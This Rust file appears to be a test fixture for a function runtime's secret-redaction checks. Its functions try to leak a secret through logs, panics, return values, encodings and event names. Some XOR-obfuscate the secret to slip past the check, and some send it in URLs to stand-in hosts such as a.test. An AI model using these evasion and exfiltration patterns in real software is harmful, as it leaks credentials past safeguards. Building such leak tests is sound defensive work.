//! Functions that send secrets where they may go, and try everything to get hold of them.
#![cfg(target_family = "wasm")]
#![no_main]

use system_bus_sdk::prelude::*;

/// What is to be done.
#[derive(Deserialize)]
struct Asked {
    /// The secret.
    #[serde(default = "key")]
    secret: String,
    /// Where to.
    #[serde(default)]
    to: String,
    /// What to do with what came back.
    #[serde(default)]
    attempt: String,
    /// Text that some attempts use.
    #[serde(default)]
    text: String,
}

fn key() -> String {
    "key".to_owned()
}

/// Sends the secret in a header; answers with the status and nothing else.
#[function(id = "sends", on("testing/secret.asked"), retries = 4)]
async fn sends(ctx: Ctx, event: Incoming<Asked>) -> Result<u16> {
    let asked = &event.data;
    ctx.step("send", async |io| {
        let secrets = io.secrets();
        let token = secrets.placeholder(&asked.secret)?;
        if token != secrets.placeholder(&asked.secret)? {
            return Err(Error::stop("two placeholders in one call"));
        }
        let request = io.http().get(&asked.to).header("authorization", format!("Bearer {token}"));
        Ok(request.send().await?.status)
    })
    .await
}

/// Sends the secret in the body.
#[function(id = "sends-body", on("testing/secret.asked"), retries = 4)]
async fn sends_body(ctx: Ctx, event: Incoming<Asked>) -> Result<u16> {
    let asked = &event.data;
    ctx.step("send", async |io| {
        let token = io.secrets().placeholder(&asked.secret)?;
        let body = serde_json::json!({ "key": token.as_str() });
        Ok(io.http().post(&asked.to).json(&body).send().await?.status)
    })
    .await
}

/// Sends some text of the event in a header, as it is.
#[function(id = "sends-text", on("testing/secret.asked"), retries = 4)]
async fn sends_text(ctx: Ctx, event: Incoming<Asked>) -> Result<u16> {
    let asked = &event.data;
    ctx.step("send", async |io| {
        let request = io.http().get(&asked.to).header("authorization", &asked.text);
        Ok(request.send().await?.status)
    })
    .await
}

/// Lets a server send the secret back, and does with it what nobody should.
#[function(id = "leaks", on("testing/secret.asked"), retries = 4)]
async fn leaks(ctx: Ctx, event: Incoming<Asked>) -> Result<Value> {
    let asked = &event.data;
    let told = ctx
        .step("leak", async |io| {
            let token = io.secrets().placeholder(&asked.secret)?;
            let request = io.http().get(&asked.to).header("x-key", token.as_str());
            let secret = request.send().await?.text()?;
            if asked.attempt == "ask-for-it" {
                io.secrets().placeholder(&secret)?;
            }
            leak(&asked.attempt, &secret, token.as_str())
        })
        .await?;
    // A step that came through the check, whose result the function makes the secret of again.
    if asked.attempt == "output" {
        let hidden: Vec<u8> = serde_json::from_value(told).stop()?;
        let secret: String = hidden.into_iter().map(|byte| char::from(byte ^ 1)).collect();
        return Ok(secret.into());
    }
    if asked.attempt == "step-name" {
        let hidden: Vec<u8> = serde_json::from_value(told).stop()?;
        let secret: String = hidden.into_iter().map(|byte| char::from(byte ^ 1)).collect();
        ctx.fetch("report", format!("https://a.test/?{secret}")).await?;
        return Ok(Value::Null);
    }
    Ok(told)
}

fn leak(attempt: &str, secret: &str, token: &str) -> Result<Value> {
    match attempt {
        "length" => Ok(secret.len().into()),
        "return" => Ok(secret.into()),
        "return-within" => Ok(serde_json::json!({ "answer": { "body": format!("<{secret}>") } })),
        "return-base64" => Ok(base64(format!("user:{secret}").as_bytes()).into()),
        "return-hex" => Ok(hex(secret).into()),
        "return-placeholder" => Ok(token.into()),
        "log" => {
            log::warn!("it is {secret}");
            Ok("logged".into())
        }
        "log-placeholder" => {
            log::warn!("it is {token}");
            Ok("logged".into())
        }
        "print" => {
            println!("it is {secret}");
            std::process::abort()
        }
        "panic" => panic!("it is {secret}"),
        "fail" => Err(Error::stop(format!("it is {secret}")).named(secret.to_owned())),
        // What the check does not see through.
        "output" | "step-name" => {
            Ok(secret.bytes().map(|byte| byte ^ 1).collect::<Vec<u8>>().into())
        }
        other => Err(Error::stop(format!("no such attempt: {other}"))),
    }
}

/// Tells the server, or the log, the secret that a server sent back: in the way and in the form that the event names.
#[function(id = "tells", on("testing/secret.told"), retries = 1)]
async fn tells(ctx: Ctx, event: Incoming<Asked>) -> Result<String> {
    let asked = &event.data;
    let secret = |body: Vec<u8>| -> String {
        // No form that the host knows of: nothing else would come out of the step.
        let plain = body.into_iter().map(|byte| char::from(byte ^ 1)).collect::<String>();
        form(&asked.text, &plain)
    };
    let hidden = ctx
        .step("ask", async |io| {
            let token = io.secrets().placeholder(&asked.secret)?;
            let request = io.http().get(&asked.to).header("x-key", token.as_str());
            let plain = request.send().await?.text()?;
            let told = form(&asked.text, &plain);
            match asked.attempt.as_str() {
                "step-result" => return Ok(told.into_bytes()),
                "step-error" => return Err(Error::stop(told)),
                "print" => println!("it is {told} and more"),
                "print-error" => eprintln!("it is {told} and more"),
                "log" => log::warn!("it is {told} and more"),
                "panic" => panic!("it is {told} and more"),
                _ => {}
            }
            Ok(plain.bytes().map(|byte| byte ^ 1).collect())
        })
        .await?;
    let secret = secret(hidden);
    let data = serde_json::json!({ "it": { "is": secret } });
    match asked.attempt.as_str() {
        "step-key" => ctx.step("next", async |_| Ok(())).key(secret).await?,
        "event" => drop(ctx.send("send", Outgoing::named("testing/nobody", &data)).await?),
        "event-name" => drop(ctx.send("send-named", Outgoing::named(secret, &Value::Null)).await?),
        "invocation" => ctx.invoke_by_id("invoke", "tells", &data).await?,
        "awaited-name" => {
            drop(
                ctx.wait_for_event::<Value>("wait", secret).timeout(Duration::from_secs(1)).await?,
            );
        }
        "signal" => drop(ctx.send_signal("signal", secret, &Value::Null).await?),
        "signal-data" => drop(ctx.send_signal("signal-data", "testing", &data).await?),
        "fetch" => drop(ctx.fetch("fetch", format!("http://127.0.0.1:1/{secret}")).await?),
        "result" => return Ok(secret),
        "error" => return Err(Error::stop(secret)),
        _ => {}
    }
    Ok("told".to_owned())
}

/// The secret in one of the forms in which secrets turn up.
fn form(form: &str, secret: &str) -> String {
    match form {
        "json" => serde_json::Value::from(secret).to_string(),
        "base64" => base64(format!("user:{secret}").as_bytes()),
        "hex" => hex(secret),
        "percent" => {
            let letter = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-';
            let escaped = |byte: u8| {
                if letter(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") }
            };
            secret.bytes().map(escaped).collect()
        }
        _ => secret.to_owned(),
    }
}

fn hex(text: &str) -> String {
    let digits = text.bytes().flat_map(|byte| [byte >> 4, byte & 15]);
    digits.filter_map(|digit| char::from_digit(digit.into(), 16)).collect()
}

/// Base64 by hand: components need no crate for it.
fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let bits = group.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte));
        let bits = bits << (8 * (3 - group.len()));
        for digit in 0..=group.len() {
            text.push(char::from(DIGITS[((bits >> (18 - 6 * digit)) & 63) as usize]));
        }
    }
    text
}

/// Asks for a placeholder outside of a step.
#[function(id = "asks-outside", on("testing/secret.asked"), retries = 4)]
async fn asks_outside(ctx: Ctx, event: Incoming<Asked>) -> Result<usize> {
    use std::cell::RefCell;

    let kept: RefCell<Option<system_bus_sdk::secrets::Secrets>> = RefCell::new(None);
    ctx.step("keep", async |io| {
        *kept.borrow_mut() = Some(io.secrets());
        Ok(())
    })
    .await?;
    let secrets = kept.borrow_mut().take().ok_or_else(|| Error::retry("a replay"))?;
    Ok(secrets.placeholder(&event.data.secret)?.as_str().len())
}

system_bus_sdk::component![sends, sends_body, sends_text, leaks, tells, asks_outside];
